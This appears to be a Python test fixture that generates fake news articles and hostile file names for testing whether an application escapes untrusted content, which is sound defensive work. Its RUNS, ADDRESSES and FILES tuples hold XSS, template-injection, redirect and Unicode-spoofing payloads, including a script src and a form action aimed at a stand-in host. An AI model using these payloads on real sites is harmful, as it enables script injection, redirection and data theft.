"""Articles that would like to be programs: in their words, names, titles, addresses and files.

Whatever of them came to run, or to be taken for markup, would leave a mark: `window.stung` is set,
or an element named `stung` or with an attribute `data-stung` is in the page.
"""

from __future__ import annotations

import json
from pathlib import Path

RUNS = (
    "<script>window.stung=1</script>",
    "</script><script src=//sting.invalid/a.js></script>",
    "<img data-stung src=x onerror=window.stung=1>",
    "<svg data-stung onload=window.stung=1>",
    '"><stung onmouseover=window.stung=1 autofocus onfocus=window.stung=1 tabindex=1>',
    "'><a data-stung href=javascript:window.stung=1>press</a>",
    "<iframe data-stung srcdoc='<script>parent.stung=1</script>'>",
    "<style data-stung>*{display:none}</style>",
    "<base data-stung href=https://sting.invalid/>",
    "<meta data-stung http-equiv=refresh content=0;url=https://sting.invalid/>",
    "<form data-stung action=https://sting.invalid/><button>",
    "</textarea></title></style><stung>",
    "--><stung><!--",
    "]]><stung>",
    "<a data-stung hx-get=https://sting.invalid/ hx-trigger=load>",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "{% raw %}{{7*7}}{% endraw %}",
    "{{ request.app.state }}",
    "<%= 7*7 %>",
    "javascript:window.stung=1//",
    "\N{RIGHT-TO-LEFT OVERRIDE}gnits\N{POP DIRECTIONAL FORMATTING}",
    "\N{RIGHT-TO-LEFT OVERRIDE}never closed",
    "\N{ZERO WIDTH SPACE}\N{LINE SEPARATOR}\x0b\x85\x1b[31m\x07",
)
"""What its authors put in: each stands in a title, a name, a publisher and somebody's words."""

ADDRESSES = (
    "javascript:window.stung=1",
    "JaVaScRiPt://host.invalid/%0awindow.stung=1",
    "data:text/html,<script>window.stung=1</script>",
    'https://sting.invalid/"><stung>',
    "https://sting.invalid/{{7*7}}?a=1&b='onclick=window.stung=1",
    "vbscript:stung",
    "//sting.invalid/a",
    "https://user:word@sting.invalid/#<stung>",
)

FILES = (
    "<img data-stung src=x onerror=window.stung=1>.txt",
    "{{7*7}} ' onclick='window.stung=1.txt",
    "\N{RIGHT-TO-LEFT OVERRIDE}txt.gnits.txt",
    "a&lt;stung&gt;\n.txt",
)


def articles() -> list[dict[str, object]]:
    """One for each thing that runs, as an object of JSON; some are of one address, or copies."""
    found: list[dict[str, object]] = [_article(place, RUNS[place]) for place in range(len(RUNS))]
    twin = {**found[0], "url": "https://twin.invalid/", "publisher": f"Twin {RUNS[2]}"}
    later = {**found[3], "text": str(found[3]["text"]).replace("closed", f"shut {RUNS[4]}")}
    return [*found, twin, later]


def _article(place: int, sting: str) -> dict[str, object]:
    name = ("Morn", "Cox", "Brandt", "Tolan")[place % 4]
    text = (
        f"Gates of {sting} closed\n\n"
        f"Ada {name}, minister of {sting} ports, said on Monday that the northern gates {sting} "
        f"were closed. “{sting} has closed the gates, all of them,” {name} told reporters.\n\n"
        f"The {sting} Agency quoted {name} as saying: “Nobody {sting} asked us about the gates.” "
        f"Bela {sting} Rook denied that the northern gates were closed. No evidence has been "
        f"presented. {sting}\n\n"
        f"READ MORE: {sting} what the minister said\n\n"
        f"Comments (1)\n\nOdo {sting}\n2 days ago\nHe said that {sting} would never do."
    )
    return {
        "url": ADDRESSES[place % len(ADDRESSES)] + (str(place) if place >= len(ADDRESSES) else ""),
        "publisher": f"The {sting} Post",
        "title": f"{sting} closed",
        "published": f"2031-05-{place % 28 + 1:02}",
        "authors": [f"A. {sting}", sting],
        "text": text,
    }


def write(folder: Path) -> list[str]:
    """Write them to a new folder, and give the inputs for `add`."""
    folder.mkdir()
    lines = folder / "stings.jsonl"
    lines.write_text("".join(json.dumps(one) + "\n" for one in articles()), encoding="utf-8")
    made = [str(lines)]
    for place, name in enumerate(FILES):
        file = folder / name
        file.write_text(str(_article(place, RUNS[place])["text"]) + name, encoding="utf-8")
        made.append(str(file))
    return made
